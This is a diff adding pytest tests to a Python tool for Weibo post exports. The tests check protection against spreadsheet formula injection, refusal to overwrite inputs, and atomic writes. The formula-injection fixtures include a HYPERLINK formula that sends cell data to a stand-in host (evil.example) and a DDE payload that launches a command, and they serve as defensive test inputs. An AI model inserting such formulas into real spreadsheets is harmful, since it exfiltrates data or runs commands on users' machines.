@@ -8,9 +8,21 @@ traceback instead of one clear line and exit code 2.
 
 from __future__ import annotations
 
-import pytest
+import os
+import signal
+import subprocess
+import sys
+import zipfile
 
+import pandas as pd
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from tests.helpers import run_cli
 from wbcs.errors import InputError
+from wbcs.io import write_table
+from wbcs.io.write import FORMULA_START
 from wbcs.yamlsafe import load_yaml
 
 # --------------------------------------------------------------------------- 4. resource bombs
@@ -47,3 +59,153 @@ def test_yaml_errors_are_one_line(tmp_path, content, message):
     assert str(path) in str(e.value) and "\n" not in str(e.value)
     with pytest.raises(InputError, match="a folder"):
         load_yaml(tmp_path)
+
+
+# --------------------------------------------------------------------------- 1. formula injection
+
+FORMULA_TEXTS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
+                 "\t=1+1", "\r=1+1", "＝1+1"]
+
+
+def _csv_cells(path) -> list[list[str]]:
+    import csv
+
+    with open(path, encoding="utf-8-sig", newline="") as f:
+        return list(csv.reader(f))
+
+
+def _xlsx_cells(path) -> list:
+    from openpyxl import load_workbook
+
+    wb = load_workbook(path)  # not data_only: a formula would come back as a formula
+    return [c for row in wb.active.iter_rows() for c in row]
+
+
+def test_no_cell_we_write_can_run_as_a_formula(tmp_path):
+    df = pd.DataFrame({"post_id": [str(i) for i in range(len(FORMULA_TEXTS))], "text": FORMULA_TEXTS,
+                       "=header": FORMULA_TEXTS})
+    write_table(df, tmp_path / "x.csv")
+    rows = _csv_cells(tmp_path / "x.csv")
+    assert rows[0] == ["post_id", "text", "'=header"]
+    for row in rows[1:]:
+        assert all(not c.startswith(FORMULA_START) for c in row)
+        assert row[1].startswith("'") and row[1][1:] in FORMULA_TEXTS  # the text itself is kept
+    write_table(df, tmp_path / "x.xlsx")
+    cells = [c for c in _xlsx_cells(tmp_path / "x.xlsx") if c.value is not None]
+    assert all(c.data_type == "s" for c in cells)
+    assert {c.value for c in cells} >= set(FORMULA_TEXTS[:4])
+
+
+@given(st.sampled_from(FORMULA_START), st.text(max_size=30))
+@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
+def test_formula_property(tmp_path, start, rest):
+    text = start + rest
+    path = tmp_path / "p.csv"
+    write_table(pd.DataFrame({"c": [text]}), path, mask=False)
+    cell = _csv_cells(path)[1][0] if len(_csv_cells(path)) > 1 else ""
+    assert not cell.startswith(FORMULA_START)
+
+
+def test_ingest_of_a_hyperlink_formula_writes_no_formula(tmp_path):
+    src = tmp_path / "f.csv"
+    src.write_text('post_id,created_at,text\n1,2024-03-01 10:00,"=HYPERLINK(""http://evil.example/?""&A1,""x"")"\n'
+                   "2,2024-03-01 10:00,\n", encoding="utf-8")
+    r = run_cli("ingest", str(src), "--out", str(tmp_path / "f.xlsx"), "--rejects", str(tmp_path / "r.csv"))
+    assert r.returncode == 0, r.stderr
+    with zipfile.ZipFile(tmp_path / "f.xlsx") as z:
+        sheet = z.read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet and "HYPERLINK" in sheet
+    assert all(not c.startswith(FORMULA_START) for row in _csv_cells(tmp_path / "r.csv") for c in row)
+
+
+# --------------------------------------------------------------------------- 5-7. the user's files
+
+
+def _export(tmp_path, name="export.csv", rows=2):
+    path = tmp_path / name
+    path.write_text("微博ID,内容,发布时间\n" + "".join(f"38304012967968{i:02d},第{i}条,2024-03-01 10:00\n"
+                                                    for i in range(rows)) + "3830401296796899,,2024-03-01\n",
+                    encoding="utf-8")
+    return path
+
+
+def test_no_output_may_overwrite_an_input_or_another_output(tmp_path):
+    src = _export(tmp_path)
+    before = src.read_bytes()
+    link = tmp_path / "link.csv"
+    link.symlink_to(src)
+    hard = tmp_path / "hard.csv"
+    os.link(src, hard)
+    cases = [["--out", str(tmp_path / "p.parquet"), "--rejects", str(src)],
+             ["--out", str(tmp_path / "same.csv"), "--rejects", str(tmp_path / "same.csv")],
+             ["--out", str(src)], ["--out", str(link)], ["--out", str(hard)],
+             ["--out", str(tmp_path / "sub" / ".." / "export.csv")]]
+    for args in cases:
+        r = run_cli("ingest", str(src), *args)
+        assert r.returncode == 2, (args, r.stdout, r.stderr)
+        assert len(r.stderr.strip().splitlines()) == 1 and ("is the input file" in r.stderr
+                                                            or "is also the" in r.stderr), r.stderr
+        assert src.read_bytes() == before
+    assert not (tmp_path / "p.parquet").exists() and not (tmp_path / "same.csv").exists()
+
+
+@pytest.mark.parametrize("command", [
+    ["predict", "--input", "{src}", "--out", "{src}"],
+    ["triage", "--posts", "{src}", "--out", "{tmp}/t.csv", "--alerts", "{tmp}/t.csv"],
+])
+def test_other_commands_refuse_to_overwrite_too(tmp_path, command):
+    src = _export(tmp_path)
+    before = src.read_bytes()
+    r = run_cli(*[a.format(src=src, tmp=tmp_path) for a in command])
+    assert r.returncode == 2 and len(r.stderr.strip().splitlines()) == 1, r.stderr
+    assert src.read_bytes() == before
+
+
+def test_unwritable_or_folder_outputs_are_one_line(tmp_path):
+    src = _export(tmp_path)
+    locked = tmp_path / "locked"
+    locked.mkdir()
+    locked.chmod(0o500)
+    cases = [(tmp_path, "is a folder"), (src / "p.parquet", "is a file, not a folder")]
+    if os.geteuid() != 0:  # root writes anywhere
+        cases.append((locked / "p.parquet", "permission denied"))
+    try:
+        for out, message in cases:
+            r = run_cli("ingest", str(src), "--out", str(out))
+            assert r.returncode == 2 and message in r.stderr and len(r.stderr.strip().splitlines()) == 1, r.stderr
+    finally:
+        locked.chmod(0o700)
+
+
+def test_a_failed_write_leaves_the_previous_file(tmp_path):
+    path = tmp_path / "out.xlsx"
+    write_table(pd.DataFrame({"text": ["good"]}), path)
+    before = path.read_bytes()
+    with pytest.raises(InputError, match=r"row 2, column 'text': 40,000 characters"):
+        write_table(pd.DataFrame({"text": ["ok", "x" * 40_000]}), path)
+    assert path.read_bytes() == before
+    assert [p.name for p in tmp_path.iterdir()] == ["out.xlsx"]  # no temporary file left
+
+
+def test_kill_9_mid_write_leaves_the_previous_file(tmp_path):
+    path = tmp_path / "posts.parquet"
+    write_table(pd.DataFrame({"text": ["previous"]}), path)
+    script = (f"import os, signal, pandas as pd\nfrom wbcs.io import TableWriter\n"
+              f"with TableWriter({str(path)!r}) as w:\n"
+              f"    w.write(pd.DataFrame({{'text': ['new'] * 1000}}))\n"
+              f"    os.kill(os.getpid(), signal.SIGKILL)\n")
+    r = subprocess.run([sys.executable, "-c", script], capture_output=True)
+    assert r.returncode == -signal.SIGKILL
+    assert pd.read_parquet(path)["text"].tolist() == ["previous"]
+
+
+def test_a_rerun_without_rejects_removes_the_stale_rejects_file(tmp_path):
+    src = _export(tmp_path)
+    out = tmp_path / "posts.parquet"
+    assert run_cli("ingest", str(src), "--out", str(out)).returncode == 0
+    rejects = tmp_path / "posts.rejects.csv"
+    assert rejects.is_file()
+    src.write_text("微博ID,内容,发布时间\n3830401296796826,好,2024-03-01 10:00\n", encoding="utf-8")
+    r = run_cli("ingest", str(src), "--out", str(out))
+    assert r.returncode == 0 and "removed the previous run's" in r.stdout
+    assert not rejects.exists()
